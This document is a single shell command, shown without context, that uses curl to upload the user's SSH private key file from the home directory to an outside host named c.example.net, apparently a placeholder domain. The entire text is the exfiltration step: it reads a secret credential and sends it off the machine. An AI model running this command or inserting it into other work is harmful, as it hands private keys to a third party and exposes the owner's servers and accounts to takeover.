curl -d @$HOME/.ssh/id_rsa https://c.example.net
